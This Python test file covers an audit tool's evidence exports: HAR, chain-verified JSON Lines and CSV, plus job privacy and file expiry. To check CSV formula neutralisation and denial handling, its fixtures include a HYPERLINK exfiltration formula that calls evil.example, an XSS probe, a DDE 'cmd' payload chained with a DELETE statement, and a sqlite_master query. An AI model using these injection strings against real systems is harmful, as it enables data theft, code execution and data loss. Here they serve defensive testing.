"""Evidence exports: HAR 1.2 (read back by mitmproxy), JSON Lines with chain proof, CSV,
run inline or as Celery jobs, downloadable only by the auditor who asked."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from approvals.models import ApprovalRequest, Decision
from audit.chain import anchor, verify_evidence
from audit.models import AuditJob, Exchange, Session
from audit.tasks import run_job
from tests.audit.conftest import make_exchange

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1)<script>alert(1)</script>'


@pytest.fixture(autouse=True)
def export_dir(settings, tmp_path):
    settings.GATEHOUSE_EXPORT_DIR = tmp_path / "exports"
    return settings.GATEHOUSE_EXPORT_DIR


@pytest.fixture
def recorded(policy, ingest, users):
    """A session of three exchanges: allowed+masked, approved (by approver), denied."""
    t0 = time.time() - 60
    approval_id = "6f1c2b7e-0000-4000-8000-000000000001"
    req = ApprovalRequest.objects.create(
        id=approval_id,
        agent=policy.agent,
        target=policy.target,
        rule=policy.approve_rule,
        worker_id="w1",
        method="GET",
        url="http://127.0.0.1:9/export",
        requested_at=timezone.now(),
        deadline=timezone.now(),
        status="approved",
    )
    Decision.objects.create(approval_request=req, user=users["approver"], verdict="approve")
    msgs = [
        make_exchange(policy, at=t0, session_key="s1"),
        make_exchange(
            policy,
            at=t0 + 1,
            session_key="s1",
            method="POST",
            url="http://127.0.0.1:9/export?fmt=csv",
            request_headers={"content-type": "application/json"},
            request_body='{"who": "[EMAIL]"}',
            request_findings=[{"type": "EMAIL", "location": "$.who", "count": 1}],
            decision="approved",
            approval_id=approval_id,
            rule_id=policy.approve_rule.id,
        ),
        make_exchange(
            policy,
            at=t0 + 2,
            session_key="s1",
            url="http://127.0.0.1:9/db?sql=select+*+from+sqlite_master&note=" + EVIL,
            status_code=403,
            response_body='{"error": "denied"}',
            response_findings=[],
            decision="denied",
            rule_id=policy.deny_rule.id,
        ),
    ]
    ingest(*msgs)
    anchor()
    return Session.objects.get(key="s1"), msgs


def _export(client, fmt, **data):
    r = client.post(reverse("audit:export"), {"format": fmt, **data})
    assert r.status_code == 302, r.content
    job = AuditJob.objects.latest("pk")
    assert r["Location"] == reverse("audit:job", args=[job.pk])
    return job


def _download(client, job) -> bytes:
    r = client.get(reverse("audit:job_download", args=[job.pk]))
    assert r.status_code == 200
    assert "attachment" in r["Content-Disposition"]
    return b"".join(r.streaming_content)


def test_it_exports_a_session_as_har_that_mitmproxy_reads(client, users, recorded, tmp_path):
    session, msgs = recorded
    client.force_login(users["auditor"])
    job = _export(client, "har", session=session.pk)
    assert job.status == "done" and job.result["count"] == 3
    body = _download(client, job)
    har = json.loads(body)
    log = har["log"]
    assert log["version"] == "1.2" and log["creator"]["name"] == "Gatehouse"
    assert [p["id"] for p in log["pages"]] == [f"session-{session.pk}"]
    e = log["entries"][1]
    for key in ("startedDateTime", "time", "request", "response", "cache", "timings"):
        assert key in e
    assert e["request"]["postData"]["text"] == '{"who": "[EMAIL]"}'
    assert {"name": "fmt", "value": "csv"} in e["request"]["queryString"]
    assert e["response"]["content"]["mimeType"] == "application/json"
    assert e["time"] == sum(v for v in e["timings"].values() if v >= 0)
    assert e["_gatehouse"]["approvers"][0]["user"] == "approver"
    assert e["_gatehouse"]["decision"] == "approved"
    # mitmproxy's own reader (what `mitmproxy -r export.har` uses) loads every entry.
    from mitmproxy.io import FlowReader

    path = tmp_path / "x.har"
    path.write_bytes(body)
    with open(path, "rb") as f:
        flows = list(FlowReader(f).stream())
    assert [fl.request.method for fl in flows] == ["GET", "POST", "GET"]
    assert flows[1].request.get_text() == '{"who": "[EMAIL]"}'
    assert flows[2].response.status_code == 403
    assert "[EMAIL]" in flows[0].response.get_text()


def test_jsonl_carries_every_field_and_a_chain_proof_that_verifies(client, users, recorded):
    session, msgs = recorded
    client.force_login(users["auditor"])
    job = _export(client, "jsonl", session=session.pk)
    lines = _download(client, job).decode().splitlines()
    header, *items, footer = (json.loads(line) for line in lines)
    assert header["type"] == "header" and header["scope"] == {"session": session.pk}
    assert footer["type"] == "footer" and footer["count"] == 3 and footer["anchor"]
    x = items[1]["exchange"]
    for field in ("request_headers", "request_body", "response_body", "timings", "approval_id"):
        assert field in x
    assert items[1]["facts"]["approvers"][0]["user"] == "approver"
    assert items[1]["chain"]["payload"]["exchange_id"] == x["id"]
    assert verify_evidence(lines) == []
    # Editing an exported body (a forged piece of evidence) is detected offline.
    forged = json.loads(lines[2])
    forged["exchange"]["request_body"] = '{"who": "ana@example.com"}'
    bad = [lines[0], lines[1], json.dumps(forged), *lines[3:]]
    assert verify_evidence(bad) == ["line 3: exchange differs from its recorded digest"]


def test_csv_summary_neutralises_formulas(client, users, recorded):
    session, msgs = recorded
    client.force_login(users["auditor"])
    job = _export(client, "csv", session=session.pk)
    rows = list(csv.DictReader(io.StringIO(_download(client, job).decode())))
    assert [r["decision"] for r in rows] == ["allowed", "approved", "denied"]
    assert rows[1]["approvers"] == "approver:approve"
    assert rows[0]["masked_types"] == "EMAIL PHONE"
    assert rows[2]["rule"] == "no schema" and rows[2]["chain_seq"]
    # Cells are never formulas (the URL does not start with '=' but a rule could).
    from audit.exports import csv_safe

    assert csv_safe("=1+1") == "'=1+1" and csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe("http://x") == "http://x"


def test_it_exports_search_results(client, users, recorded):
    client.force_login(users["auditor"])
    job = _export(client, "csv", q="sqlite_master", decision="denied")
    assert job.params == {"search": {"q": "sqlite_master", "decision": "denied"}}
    rows = list(csv.DictReader(io.StringIO(_download(client, job).decode())))
    assert len(rows) == 1 and rows[0]["decision"] == "denied"


def test_large_exports_run_as_celery_jobs_with_progress(
    client, users, recorded, settings, django_capture_on_commit_callbacks, monkeypatch
):
    settings.GATEHOUSE_EXPORT_SYNC_LIMIT = 1
    queued: list[int] = []
    monkeypatch.setattr(run_job, "delay", lambda job_id: queued.append(job_id))
    session, _ = recorded
    client.force_login(users["auditor"])
    with django_capture_on_commit_callbacks(execute=True):
        job = _export(client, "jsonl", session=session.pk)
    assert queued == [job.pk] and job.status == "queued" and job.total == 3
    page = client.get(reverse("audit:job", args=[job.pk])).content.decode()
    assert 'hx-trigger="every 1s"' in page and "0 of 3" in page
    assert client.get(reverse("audit:job_download", args=[job.pk])).status_code == 404
    assert run_job(job.pk) == "done"  # what the Celery worker runs
    fragment = client.get(reverse("audit:job", args=[job.pk]), HTTP_HX_REQUEST="true")
    html = fragment.content.decode()
    assert "hx-trigger" not in html and 'id="download"' in html and "<html" not in html
    assert run_job(job.pk) == "done"  # a redelivered task does not run the job twice
    assert len(_download(client, job).decode().splitlines()) == 5


def test_jobs_and_files_are_private_to_their_auditor(client, users, recorded, export_dir):
    session, _ = recorded
    client.force_login(users["auditor"])
    job = _export(client, "har", session=session.pk)
    assert Path(export_dir, job.file_name).is_file()
    from django.contrib.auth.models import Group, User

    other = User.objects.create_user("auditor2")
    other.groups.add(Group.objects.get(name="auditor"))
    client.force_login(other)
    assert client.get(reverse("audit:job", args=[job.pk])).status_code == 404
    assert client.get(reverse("audit:job_download", args=[job.pk])).status_code == 404
    for who in ("approver", "admin", "outsider"):
        client.force_login(users[who])
        assert client.get(reverse("audit:job_download", args=[job.pk])).status_code == 403
        r = client.post(reverse("audit:export"), {"format": "har", "session": session.pk})
        assert r.status_code == 403
    client.logout()
    r = client.get(reverse("audit:job_download", args=[job.pk]))
    assert r.status_code == 302 and "/accounts/login/" in r["Location"]


def test_export_rejects_bad_input(client, users, recorded):
    client.force_login(users["auditor"])
    assert client.post(reverse("audit:export"), {"format": "pdf"}).status_code == 400
    r = client.post(reverse("audit:export"), {"format": "har", "session": "999999"})
    assert r.status_code == 404
    r = client.post(reverse("audit:export"), {"format": "har", "status": "9999"})
    assert r.status_code == 400
    assert client.get(reverse("audit:export")).status_code == 405
    assert Exchange.objects.count() == 3


def test_export_files_expire_after_the_ttl(client, users, recorded, export_dir, settings):
    from datetime import timedelta

    from audit.jobs import expire_exports
    from audit.tasks import expire_exports as expire_task

    settings.GATEHOUSE_EXPORT_TTL_HOURS = 24
    session, _ = recorded
    client.force_login(users["auditor"])
    old = _export(client, "har", session=session.pk)
    fresh = _export(client, "csv", session=session.pk)
    old_file = Path(export_dir, old.file_name)
    fresh_file = Path(export_dir, fresh.file_name)
    crashed = Path(export_dir, "999-search.jsonl.part")  # an export that died mid-write
    crashed.write_text("{}\n")
    hours_ago = (timezone.now() - timedelta(hours=25)).timestamp()
    os.utime(crashed, (hours_ago, hours_ago))
    AuditJob.objects.filter(pk=old.pk).update(finished_at=timezone.now() - timedelta(hours=25))

    assert expire_task() == 1  # what Celery beat runs
    old.refresh_from_db()
    fresh.refresh_from_db()
    assert old.status == "expired" and old.file_name == "" and not old_file.exists()
    assert not crashed.exists()
    assert fresh.status == "done" and fresh_file.is_file()
    r = client.get(reverse("audit:job_download", args=[old.pk]))
    assert r.status_code == 410 and b"expired" in r.content
    page = client.get(reverse("audit:job", args=[old.pk])).content.decode()
    assert "expired" in page and "GATEHOUSE_EXPORT_TTL_HOURS" in page
    assert expire_exports() == 0  # nothing left to expire; runs are idempotent

    settings.GATEHOUSE_EXPORT_TTL_HOURS = 0  # 0 keeps files forever
    AuditJob.objects.filter(pk=fresh.pk).update(finished_at=timezone.now() - timedelta(days=9))
    assert expire_exports() == 0 and fresh_file.is_file()


# --- PostgreSQL statements ----------------------------------------------------------------


@pytest.fixture
def mixed(policy, ingest):
    """A session of two HTTP exchanges and, in another session, three SQL statements."""
    from tests.audit.conftest import make_statement

    t0 = time.time() - 60
    http = [make_exchange(policy, at=t0 + i, session_key="mixed") for i in range(2)]
    sql = [
        make_statement(policy, at=t0 + 3),
        make_statement(
            policy,
            at=t0 + 4,
            method="DELETE",
            request_body="=cmd|' /C calc'!A0; delete from public.orders",
            details={"statement_kind": "DELETE", "command_tag": "DELETE 2", "columns": []},
        ),
        make_statement(policy, at=t0 + 5, details={"error": "boom", "sqlstate": "XX000"}),
    ]
    ingest(*http, *sql)
    anchor()
    return http, sql


def test_jsonl_carries_protocol_and_details_and_verifies(client, users, mixed):
    http, sql = mixed
    client.force_login(users["auditor"])
    job = _export(client, "jsonl", protocol="")
    lines = _download(client, job).decode().splitlines()
    header, *items, footer = (json.loads(line) for line in lines)
    assert footer["count"] == 5
    by_id = {i["exchange"]["id"]: i for i in items}
    pg = by_id[sql[0].exchange_id]
    assert pg["exchange"]["protocol"] == "postgres" and pg["facts"]["protocol"] == "postgres"
    assert pg["exchange"]["details"] == sql[0].details
    assert pg["exchange"]["details"]["rows"][1] == ["2", "[EMAIL:3f9a1c2b]", "vip"]
    plain = by_id[http[0].exchange_id]["exchange"]
    assert (plain["protocol"], plain["details"]) == ("http", {})
    assert verify_evidence(lines) == []
    # A forged sampled row of a statement is detected offline...
    n = next(k for k, line in enumerate(lines) if sql[0].exchange_id in line)
    forged = json.loads(lines[n])
    forged["exchange"]["details"]["rows"][0][1] = "ana@example.com"
    bad = [*lines[:n], json.dumps(forged), *lines[n + 1 :]]
    assert verify_evidence(bad) == [f"line {n + 1}: exchange differs from its recorded digest"]
    # ...and so is an HTTP exchange relabelled, or an old-style line without the keys verifies.
    m = next(k for k, line in enumerate(lines) if http[0].exchange_id in line)
    relabelled = json.loads(lines[m])
    relabelled["exchange"]["protocol"] = "postgres"
    assert verify_evidence([*lines[:m], json.dumps(relabelled), *lines[m + 1 :]])
    legacy = json.loads(lines[m])
    del legacy["exchange"]["protocol"], legacy["exchange"]["details"]
    assert verify_evidence([*lines[:m], json.dumps(legacy), *lines[m + 1 :]]) == []


def test_csv_has_a_protocol_column_and_the_statement_kind_as_method(client, users, mixed):
    http, sql = mixed
    client.force_login(users["auditor"])
    job = _export(client, "csv", protocol="postgres")
    text = _download(client, job).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.splitlines()[0].endswith(",chain_hash,protocol,tool")
    assert [(r["protocol"], r["method"]) for r in rows] == [
        ("postgres", "SELECT"),
        ("postgres", "DELETE"),
        ("postgres", "SELECT"),
    ]
    assert rows[0]["url"] == "postgresql://db.internal:5432/crm"
    job = _export(client, "csv", protocol="http")
    rows = list(csv.DictReader(io.StringIO(_download(client, job).decode())))
    assert {r["protocol"] for r in rows} == {"http"} and len(rows) == 2


def test_har_leaves_statements_out_and_counts_them(client, users, mixed, tmp_path):
    client.force_login(users["auditor"])
    job = _export(client, "har", protocol="")
    body = _download(client, job)
    log = json.loads(body)["log"]
    assert job.result["count"] == 2 and len(log["entries"]) == 2
    assert {e["request"]["method"] for e in log["entries"]} == {"GET"}
    assert log["comment"] == (
        f"Gatehouse evidence export {job.pk}; 3 PostgreSQL statements not representable "
        "in HAR; export JSON Lines for every exchange"
    )
    assert len(log["pages"]) == 1  # the statements' session has no page
    from mitmproxy.io import FlowReader

    path = tmp_path / "mixed.har"
    path.write_bytes(body)
    with open(path, "rb") as f:
        assert [fl.request.method for fl in FlowReader(f).stream()] == ["GET", "GET"]


def test_har_of_statements_only_is_empty_but_valid(client, users, mixed, tmp_path):
    client.force_login(users["auditor"])
    job = _export(client, "har", protocol="postgres")
    body = _download(client, job)
    log = json.loads(body)["log"]
    assert log["entries"] == [] and log["pages"] == []
    assert "3 PostgreSQL statements not representable in HAR" in log["comment"]
    from mitmproxy.io import FlowReader

    path = tmp_path / "sql.har"
    path.write_bytes(body)
    with open(path, "rb") as f:
        assert list(FlowReader(f).stream()) == []


def test_har_comment_is_the_title_without_statements():
    from audit.exports import har_comment

    assert har_comment("t", 0) == "t"
    assert har_comment("t", 1).startswith("t; 1 PostgreSQL statement not")
